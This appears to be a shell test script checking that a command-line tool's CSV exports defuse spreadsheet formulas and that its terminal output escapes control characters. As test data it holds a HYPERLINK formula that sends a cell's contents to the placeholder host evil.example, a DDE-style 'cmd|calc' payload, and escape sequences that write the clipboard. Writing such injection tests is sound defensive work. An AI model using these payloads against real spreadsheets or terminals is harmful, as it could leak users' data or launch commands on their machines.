. "$TOP/tests/cli/lib.sh"
# t_hostile.sh: hostile text in the data (issue 7, finding 6):
#   - CSV written for spreadsheets (export, SDMX-CSV, the CSV report)
#     neutralises text cells that a spreadsheet would run as a formula
#     (= + - @ TAB CR first) with a ' in front, and leaves numbers alone;
#   - the human-readable output of the command line (list, show, log,
#     status, errors) shows control characters (ESC, OSC 52, BEL, C1) as
#     \xNN instead of sending them to the terminal.

D="--db h.db"
run $D demo
expect_rc 0
ESC=$(printf '\033')
BEL=$(printf '\007')
CSI8=$(printf '\302\233')   # U+009B, the 8-bit CSI
# Whether file $1 holds the bytes $2 (LC_ALL=C: byte by byte).
has_bytes() { LC_ALL=C grep -qF -- "$2" "$1"; }

# ---- CSV ----------------------------------------------------------------
run $D goal set us-rs/goal/fulbright \
  --title '=HYPERLINK("http://evil.example/?x="&A1,"click")'
expect_rc 0
run $D goal set us-rs/goal/congress-exchange --title '@SUM(1+1)*cmd|calc'
run $D goal set us-rs/goal/double-taxation --title '+1 plus' \
  --note "$(printf '\tTAB first')"
run $D goal set us-rs/goal/trade-10pct --baseline_value -3.5 \
  --note '-2+3 minus'
expect_rc 0
run $D observation add --indicator_id us-rs/ind/trade-total --period 2006-02 \
  --value -42.25 --note '=1+2'
expect_rc 0

run $D export goal
expect_rc 0
printf '%s\n' "$OUT" >goal.csv
check_csv() {
  if has_bytes goal.csv "$1"; then t_ok; else t_fail "goal.csv lacks: $1"; fi
}
check_csv "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\""
check_csv ",'@SUM(1+1)*cmd|calc,"
check_csv ",'+1 plus,"
check_csv ",'-2+3 minus"
check_csv "$(printf ",'\\tTAB first")"
# Numbers keep their sign: -3.5 is the baseline value, not text.
check_csv ",-3.5,"
if has_bytes goal.csv "'-3.5"; then t_fail "a number was quoted"; else t_ok; fi

run $D export observation
printf '%s\n' "$OUT" >obs.csv
if has_bytes obs.csv ",-42.25,"; then t_ok; else t_fail "obs.csv: -42.25"; fi
if has_bytes obs.csv ",'=1+2"; then t_ok; else t_fail "obs.csv: '=1+2"; fi

run $D export sdmx --indicator us-rs/ind/trade-total
expect_rc 0
printf '%s\n' "$OUT" >obs.sdmx.csv
if has_bytes obs.sdmx.csv ",-42.25,"; then t_ok; else t_fail "sdmx: -42.25"; fi
if has_bytes obs.sdmx.csv "'=1+2"; then t_ok; else t_fail "sdmx: '=1+2"; fi
if LC_ALL=C grep -q ',=1+2' obs.sdmx.csv; then t_fail "sdmx: raw =1+2"
else t_ok; fi

run $D report quarterly --quarter 2026-Q3 --format csv
expect_rc 0
printf '%s\n' "$OUT" >report.csv
if has_bytes report.csv "'=HYPERLINK("; then t_ok
else t_fail "report.csv: the formula title is not neutralised"; fi
if LC_ALL=C grep -q '[,"]=HYPERLINK' report.csv; then
  t_fail "report.csv: a cell begins with ="
else t_ok; fi

# The round-trip format keeps the text as it is.
run $D export all
expect_rc 0
expect_out '"title": "=HYPERLINK('
expect_no_out "'=HYPERLINK"

# ---- the terminal -------------------------------------------------------
EVIL=$(printf 'Evil\033[2J\033]52;c;cHduZWQ=\007 \302\233\061m end')
# Control characters are refused as input (issue 10, finding 8) ...
run $D goal set us-rs/goal/fulbright --title "$EVIL" \
  --note "$(printf 'line one\nline\033[31m two')"
expect_rc 2
expect_err "title: not valid text: a control character at character 5 (byte 0x1B)"
# ... but a database written before that rule (or by another program)
# may hold them: the output must still not send them to the terminal.
sqlite3 h.db "UPDATE goal SET title=$(sql_text_hex "$(printf '%s' "$EVIL" | od -An -tx1 | tr -d ' \n')"), note=$(sql_text_hex "$(printf 'line one\nline\033[31m two' | od -An -tx1 | tr -d ' \n')") WHERE code='us-rs/goal/fulbright'"
# no_ctl NAME: the last run's stdout and stderr hold no ESC, BEL or C1.
no_ctl() {
  cat "$WORK_OUT" "$WORK_ERR" >out.bin
  if has_bytes out.bin "$ESC" || has_bytes out.bin "$BEL" \
     || has_bytes out.bin "$CSI8"; then
    t_fail "$1: control characters reach the terminal"
    od -c out.bin | grep -m 3 '033\|007\|302 233'
  else
    t_ok
  fi
}
shows_escaped() {
  if has_bytes out.bin 'Evil\x1b[2J\x1b]52;c;cHduZWQ=\x07 \xc2\x9b1m end'
  then t_ok; else t_fail "$1: the title is not shown escaped"; fi
}
run $D goal list
expect_rc 0
no_ctl "goal list"
# The list cuts long cells: the escaped start of the title is there.
if has_bytes out.bin 'Evil\x1b[2J'; then t_ok
else t_fail "goal list: no escaped title"; fi
run $D goal show us-rs/goal/fulbright
expect_rc 0
no_ctl "goal show"
shows_escaped "goal show"
# Free text keeps its newlines, escapes the rest.
expect_out "$(printf 'line one\nline\\x1b[31m two')"
run $D status
expect_rc 0
no_ctl "status"
shows_escaped "status"
run $D log --limit 3
expect_rc 0
no_ctl "log"
# An actor's name and an error message are data too.
ACCORD_USER="$(printf 'bad\033[2Jactor')" run $D goal set \
  us-rs/goal/congress-exchange --note 'by a strange actor'
expect_rc 0
run $D log --limit 1
no_ctl "log of a strange actor"
expect_out 'bad\x1b[2Jactor'
run $D goal show "$(printf 'no\033]52;c;eA==\007such')"
expect_rc 3
no_ctl "an error naming the input"
expect_err 'not valid text: a control character at character 3 (byte 0x1B)'
# JSON output is escaped by jansson: unchanged.
run $D goal show us-rs/goal/fulbright --json
expect_out '\u001B[2J'

done_testing
